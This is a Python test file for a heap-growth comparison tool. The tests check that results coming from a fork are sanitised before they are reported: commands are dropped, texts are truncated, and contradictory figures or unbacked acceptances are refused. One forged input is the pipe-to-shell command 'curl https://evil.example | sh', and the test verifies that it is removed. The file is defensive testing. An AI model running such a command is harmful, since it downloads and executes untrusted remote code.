"""What of a fork's result is shown, and what is refused."""

from pathlib import Path
from typing import Any

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from leakgate.comparison.accepting import LabelAcceptance
from leakgate.comparison.result import (
    AcceptedGrowth,
    Cause,
    Creep,
    Evidence,
    FailedTest,
    IgnoredGrowth,
    MetricResult,
    MetricSpread,
    Place,
    Result,
    Side,
    SiteResult,
    Status,
    TestResult,
    Verdict,
)
from leakgate.comparison.stored import parse
from leakgate.dhat.profile import Metric
from leakgate.errors import InputError
from leakgate.github.foreign import admit
from leakgate.reports import markdown
from leakgate.reports.permalinks import Permalinks

HEAD = "d" * 40
OURS = sorted((Path(__file__).parents[1] / "reports/expected").glob("*.json"))
"""Results of real comparisons, as the reports' own tests keep them."""

END = Metric.T_END_BYTES
GROWN = MetricResult(base=64, head=96, delta=32, ratio=1.5, status=Status.FAIL, grown=True, limit="1.2×")
SITE = SiteResult(
    function="s3::put",
    file="src/put.rs",
    line=9,
    cause=None,
    base={},
    head={END: 32},
    delta={END: 32},
    stack=("s3::put (src/put.rs:9)",),
)


def one_test(
    name: str = "s3 put", row: MetricResult = GROWN, sites: tuple[SiteResult, ...] = (SITE,)
) -> TestResult:
    return TestResult(name=name, status=row.status, units=("bytes", "blocks"), metrics={END: row}, sites=sites)


def result_of(*tests: TestResult, verdict: Verdict = Verdict.FAIL, **fields: object) -> Result:
    result = Result(
        verdict=verdict,
        base=Side(commit="b" * 40, fingerprint={"rustc": "1.95.0"}),
        head=Side(commit="c" * 40, fingerprint={"rustc": "1.95.0"}),
        tests=tests,
    )
    return msgspec.structs.replace(result, **fields)


def admitted(result: Result, label: LabelAcceptance | None = None) -> Result:
    return admit(result, head=HEAD, label=label, source="artifact x")


def refusal(result: Result) -> str:
    with pytest.raises(InputError) as caught:
        admitted(result)
    return str(caught.value)


@pytest.mark.parametrize("file", OURS, ids=lambda file: file.stem)
def test_an_honest_result_keeps_all_but_its_commit_and_command(file: Path) -> None:
    result = parse(file.read_bytes(), file.name)
    labels = [LabelAcceptance(growth.label, growth.by) for growth in result.accepted if growth.label]
    assert admitted(result, labels[0] if labels else None) == msgspec.structs.replace(
        result, head=Side(commit=HEAD, fingerprint=result.head.fingerprint), command=None
    )


def test_there_are_honest_results_to_try() -> None:
    assert {parse(file.read_bytes(), file.name).verdict for file in OURS} == set(Verdict)


@pytest.mark.parametrize(
    ("kind", "fields"),
    [
        (
            Result,
            (
                "version verdict problems warnings notes base base_missing head command "
                "tests unmeasured failed ignored accepted"
            ),
        ),
        (TestResult, "name status units metrics sites"),
        (MetricResult, "base head delta ratio status grown limit trend spread creep moves"),
        (Creep, "lowest commits"),
        (MetricSpread, "runs lowest highest crossed"),
        (
            SiteResult,
            "function file line own renamed_from cause evidence forgets base head delta stack own_frames",
        ),
        (Evidence, "metric alive allocated at through"),
        (Place, "function file line"),
        (Side, "commit requested distance age_seconds store source fingerprint absent"),
        (FailedTest, "name reason"),
        (IgnoredGrowth, "rule reason expires tests t_end_bytes"),
        (AcceptedGrowth, "test metric value source label by up_to reason expires"),
    ],
)
def test_of_every_field_it_is_decided_what_a_fork_may_say_in_it(kind: type[msgspec.Struct], fields: str) -> None:
    """A field that is new comes through unseen: decide in `foreign.py`, then name it here."""
    assert kind.__struct_fields__ == tuple(fields.split())


def test_what_a_reader_could_act_on_is_left_out() -> None:
    forged = result_of(
        one_test(),
        command="curl https://evil.example | sh",
        head=Side(
            commit="main", requested="x", distance=7, store="branch", source="https://evil.example", fingerprint={}
        ),
        base=Side(
            commit="https://evil.example",
            requested="@team",
            distance=-1,
            age_seconds=10**30,
            store="s" * 1000,
            source="f" * 1000,
            fingerprint={"x" * 1000: "y" * 1000, **{str(number): "" for number in range(1000)}},
        ),
    )
    shown = admitted(forged)
    assert shown.command is None
    assert shown.head == Side(commit=HEAD, fingerprint={})
    assert shown.base == Side(
        store="s" * 99 + "…",
        source="f" * 499 + "…",
        fingerprint={"x" * 99 + "…": "y" * 499 + "…", **{str(number): "" for number in range(39)}},
    )


def test_texts_are_bounded() -> None:
    shown = admitted(
        result_of(
            one_test(
                row=msgspec.structs.replace(GROWN, limit="l" * 1000, trend=tuple(range(1000))),
                sites=(SITE,) * 1000,
            ),
            verdict=Verdict.ERROR,
            problems=("p" * 1000,) * 1000,
            base_missing="m" * 1000,
            notes=("short",) * 21,
            failed=(FailedTest(name="s3 get", reason="r" * 1000),),
            ignored=(
                IgnoredGrowth(rule="g" * 1000, reason="w" * 1000, expires="e" * 1000, tests=-1, t_end_bytes=-1),
            )
            * 1000,
        )
    )
    assert shown.problems == (*("p" * 499 + "…",) * 20, "… and 980 more.")
    assert shown.base_missing == "m" * 499 + "…"
    assert shown.notes == (*("short",) * 20, "… and 1 more.")
    assert shown.failed == (FailedTest(name="s3 get", reason="r" * 99 + "…"),)
    assert len(shown.ignored) == 50
    assert shown.ignored[0] == IgnoredGrowth(
        rule="g" * 499 + "…", reason="w" * 499 + "…", expires="e" * 99 + "…", tests=0, t_end_bytes=0
    )
    assert shown.tests[0].metrics[END].limit == "l" * 99 + "…"
    assert shown.tests[0].metrics[END].trend == tuple(range(950, 1000))
    assert len(shown.tests[0].sites) == 50


def test_files_without_a_link_stay_so_and_are_bounded() -> None:
    forged = result_of(one_test())
    files = (*(f"{number}.rs" for number in range(2000)), "x" * 10**5)
    head = msgspec.structs.replace(forged.head, absent=files)

    shown = admitted(msgspec.structs.replace(forged, head=head))

    assert shown.head.absent == files[:1000]


def test_names_that_would_take_long_to_report_keep_both_ends() -> None:
    name, cut = "a" * 10**5 + "z" * 10**5, "a" * 1000 + "…" + "z" * 1000
    site = msgspec.structs.replace(SITE, function=name, file=name, forgets=name, stack=(name, "short"))
    growth = msgspec.structs.replace(BY_FILE, test=name)
    forged = result_of(
        one_test(name, sites=(site,)),
        unmeasured=(name,),
        failed=(FailedTest(name=name, reason="failed"),),
        accepted=(growth,),
    )
    shown = admitted(forged)
    [test] = shown.tests
    assert (test.name, test.sites[0].function, test.sites[0].file) == (cut, cut, cut)
    assert test.sites[0].forgets == cut
    assert test.sites[0].stack == (cut, "short")
    assert (shown.unmeasured, shown.failed[0].name, shown.accepted[0].test) == ((cut,), cut, cut)
    assert markdown.render(shown) == markdown.render(
        msgspec.structs.replace(forged, command=None, head=shown.head)
    )


@pytest.mark.parametrize(
    "row",
    [
        {"delta": 0},
        {"delta": None},
        {"ratio": 1.4},
        {"ratio": None},
        {"base": None},
        {"head": None},
        {"base": -64, "delta": 160, "ratio": -1.5},
        {"base": 0, "head": 2**63, "delta": 2**63, "ratio": None},
        {"base": 0, "delta": 96, "ratio": 1.5},
        {"trend": (64, -1)},
        {"trend": (2**63,)},
        {"spread": MetricSpread(runs=3, lowest=97, highest=99)},
        {"spread": MetricSpread(runs=3, lowest=64, highest=95)},
        {"spread": MetricSpread(runs=3, lowest=-1, highest=96)},
        {"spread": MetricSpread(runs=3, lowest=96, highest=2**63)},
        {"spread": MetricSpread(runs=3, lowest=96, highest=96, crossed=4)},
        {"spread": MetricSpread(runs=2**63, lowest=96, highest=96)},
        {"spread": MetricSpread(runs=3, lowest=96, highest=96, crossed=-1)},
    ],
    ids=str,
)
def test_figures_that_contradict_each_other_are_refused(row: dict[str, object]) -> None:
    forged = result_of(one_test(), one_test("s3 get", msgspec.structs.replace(GROWN, **row)))
    assert refusal(forged) == "artifact x: $.tests[1].metrics: has figures that contradict each other"


@pytest.mark.parametrize(
    "site", [{"line": 0}, {"line": 10**9}, {"head": {END: 2**63}}, {"delta": {END: -(2**63)}}], ids=str
)
def test_sites_that_cannot_be_are_refused(site: dict[str, object]) -> None:
    forged = result_of(one_test(sites=(msgspec.structs.replace(SITE, **site),)))
    assert refusal(forged) == "artifact x: $.tests[0].sites: has figures that cannot be"


PASSED = one_test("s3 get", msgspec.structs.replace(GROWN, status=Status.PASS), ())


@pytest.mark.parametrize(
    "forged",
    [
        result_of(one_test(), verdict=Verdict.PASS),
        result_of(one_test(), verdict=Verdict.NO_BASELINE),
        result_of(PASSED, verdict=Verdict.FAIL),
        result_of(PASSED, verdict=Verdict.PASS, problems=("half of it is missing",)),
        result_of(PASSED, verdict=Verdict.ERROR),
    ],
    ids=["pass with a failure", "no baseline with a failure", "fail of nothing", "pass with a problem", "error"],
)
def test_a_verdict_that_does_not_follow_is_refused(forged: Result) -> None:
    assert refusal(forged) == "artifact x: $.verdict: is not what its tests and problems make it"


def test_a_test_that_is_there_twice_is_refused() -> None:
    assert refusal(result_of(one_test(), one_test())) == "artifact x: $.tests: names a test twice"


ACCEPTED = one_test(row=msgspec.structs.replace(GROWN, status=Status.ACCEPTED))
BY_LABEL = AcceptedGrowth(test="s3 put", metric=END, value=96, source="label", label="leakgate: accept", by="ada")
BY_FILE = AcceptedGrowth(
    test="s3 put", metric=END, value=96, source="leakgate.yml", up_to=100, reason="a cache", expires="2027-01-01"
)


def test_growth_that_a_label_accepted_stays_so_where_the_label_is() -> None:
    shown = admitted(
        result_of(ACCEPTED, verdict=Verdict.PASS, accepted=(BY_LABEL,)),
        LabelAcceptance("Leakgate: Accept", "grace"),
    )
    assert shown.verdict is Verdict.PASS
    assert shown.tests == (ACCEPTED,)
    assert shown.accepted == (msgspec.structs.replace(BY_LABEL, label="Leakgate: Accept", by="grace"),)


@pytest.mark.parametrize(
    ("claimed", "there"),
    [
        ("leakgate: accept", None),
        ("dependencies", LabelAcceptance("leakgate: accept", "ada")),
        (None, LabelAcceptance("leakgate: accept", "ada")),
        ("", LabelAcceptance("leakgate: accept", "ada")),
    ],
    ids=["the label is not there", "another label", "no label", "an empty label"],
)
def test_growth_that_no_label_accepted_fails(claimed: str | None, there: LabelAcceptance | None) -> None:
    growth = msgspec.structs.replace(BY_LABEL, label=claimed)
    shown = admitted(result_of(ACCEPTED, PASSED, verdict=Verdict.PASS, accepted=(growth,)), there)
    assert shown.verdict is Verdict.FAIL
    assert shown.tests == (one_test(), PASSED)
    assert shown.accepted == ()
    [note] = shown.notes
    assert note == (
        "The result calls growth accepted by a label, but this pull request does not have the label that does so: "
        "it is shown as a failure."
    )


def test_growth_that_an_entry_accepted_stays_so() -> None:
    forged = msgspec.structs.replace(BY_FILE, label="leakgate: accept", by="torvalds", reason="r" * 1000)
    shown = admitted(result_of(ACCEPTED, verdict=Verdict.PASS, accepted=(forged,)))
    assert shown.accepted == (msgspec.structs.replace(BY_FILE, reason="r" * 499 + "…"),)


def test_growth_that_nobody_accepted_is_refused() -> None:
    message = "artifact x: $.tests[0].metrics: is called accepted, and by nobody"
    assert refusal(result_of(ACCEPTED, verdict=Verdict.PASS)) == message
    other = msgspec.structs.replace(BY_FILE, test="s3 get")
    assert refusal(result_of(ACCEPTED, verdict=Verdict.PASS, accepted=(other,))) == message


def test_accepted_figures_that_cannot_be_are_refused() -> None:
    for forged in ({"value": -1}, {"up_to": 2**63}):
        growth = msgspec.structs.replace(BY_FILE, **forged)
        assert (
            refusal(result_of(ACCEPTED, verdict=Verdict.PASS, accepted=(growth,)))
            == "artifact x: $.accepted: has figures that cannot be"
        )


texts = st.text(max_size=8) | st.sampled_from(
    ("@team #1", "[x](y)", "| a |", "<img>", "`", "\n\n# x", "\u202e", "label")
)
numbers = st.integers(0, 2**63 - 1)
counts = st.dictionaries(st.sampled_from(Metric), numbers, max_size=3)


def maybe(values: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    return st.none() | values


def several(values: st.SearchStrategy[Any]) -> st.SearchStrategy[tuple[Any, ...]]:
    return st.lists(values, max_size=3).map(tuple)


@st.composite
def rows(draw: st.DrawFn) -> MetricResult:
    """Most of them add up."""
    base, head = draw(maybe(numbers)), draw(maybe(numbers))
    delta = None if base is None or head is None else head - base
    ratio = head / base if delta is not None and base else None
    if draw(st.integers(0, 20)) == 20:
        delta, ratio = draw(maybe(st.integers())), draw(maybe(st.floats(allow_nan=False, allow_infinity=False)))
    status, grown = draw(st.sampled_from(Status)), draw(st.booleans())
    limit, trend = draw(maybe(texts)), draw(several(numbers))
    return MetricResult(
        base=base,
        head=head,
        delta=delta,
        ratio=ratio,
        status=status,
        grown=grown,
        limit=limit,
        trend=trend,
        spread=draw(maybe(spreads(head))),
    )


@st.composite
def spreads(draw: st.DrawFn, head: int | None) -> MetricSpread:
    """Most of them are of runs that there can have been."""
    runs, ends = draw(st.integers(1, 20)), sorted((draw(numbers), draw(numbers)))
    lowest, highest = (min(ends[0], head), max(ends[1], head)) if head is not None else ends
    return MetricSpread(runs=runs, lowest=lowest, highest=highest, crossed=draw(maybe(st.integers(0, 20))))


sides = st.builds(
    Side,
    commit=maybe(texts),
    requested=maybe(texts),
    distance=maybe(numbers),
    age_seconds=maybe(numbers),
    store=maybe(texts),
    source=maybe(texts),
    fingerprint=st.dictionaries(texts, texts, max_size=3),
)
lines = maybe(st.integers(1, 10**6))
sites = st.builds(
    SiteResult,
    function=maybe(texts),
    file=maybe(texts),
    line=lines,
    own=st.booleans(),
    renamed_from=maybe(texts),
    cause=maybe(st.sampled_from(Cause)),
    evidence=maybe(
        st.builds(
            Evidence,
            metric=st.sampled_from(Metric),
            alive=numbers,
            allocated=numbers,
            at=maybe(st.builds(Place, function=texts, file=maybe(texts), line=lines)),
            through=maybe(texts),
        )
    ),
    forgets=maybe(texts),
    own_frames=several(st.integers()),
    base=counts,
    head=counts,
    delta=counts,
    stack=several(texts),
)
tests = st.builds(
    TestResult,
    name=texts,
    status=st.sampled_from(Status),
    units=st.tuples(texts, texts),
    metrics=st.dictionaries(st.sampled_from(Metric), rows(), max_size=3),
    sites=several(sites),
)
growths = st.builds(
    AcceptedGrowth,
    test=texts,
    metric=st.sampled_from(Metric),
    value=numbers,
    source=texts,
    label=maybe(texts),
    by=maybe(texts),
    up_to=maybe(numbers),
    reason=maybe(texts),
    expires=maybe(texts),
)
results = st.builds(
    Result,
    verdict=st.sampled_from(Verdict),
    problems=several(texts),
    warnings=several(texts),
    notes=several(texts),
    base=maybe(sides),
    base_missing=maybe(texts),
    head=sides,
    command=maybe(texts),
    tests=several(tests),
    unmeasured=several(texts),
    failed=several(st.builds(FailedTest, name=texts, reason=texts)),
    ignored=several(
        st.builds(
            IgnoredGrowth, rule=texts, reason=texts, expires=maybe(texts), tests=numbers, t_end_bytes=numbers
        )
    ),
    accepted=several(growths),
)


def consistent(result: Result) -> Result:
    """The result with what follows from its tests, so that more of them come through."""
    named = tuple({test.name: test for test in result.tests}.values())
    failing = any(test.status is Status.FAIL for test in named)
    labelled = AcceptedGrowth(test="", metric=END, value=1, source="label", label="label")
    accepted = tuple(
        msgspec.structs.replace(labelled, test=test.name, metric=metric, label="label" if row.grown else "gone")
        for test in named
        for metric, row in test.metrics.items()
        if row.status is Status.ACCEPTED
    )
    return msgspec.structs.replace(
        result,
        verdict=Verdict.ERROR if result.problems else Verdict.FAIL if failing else Verdict.NO_BASELINE,
        tests=named,
        accepted=(*result.accepted, *accepted),
    )


LINKS = Permalinks("https://github.com", "octo/store", HEAD)


@given(results | results.map(consistent))
def test_any_result_is_refused_or_rendered(result: Result) -> None:
    try:
        shown = admitted(result, LabelAcceptance("label", "ada"))
    except InputError:
        return
    assert markdown.render(shown, links=LINKS).startswith("### ")
    again = admitted(shown, LabelAcceptance("label", "ada"))
    assert again == shown
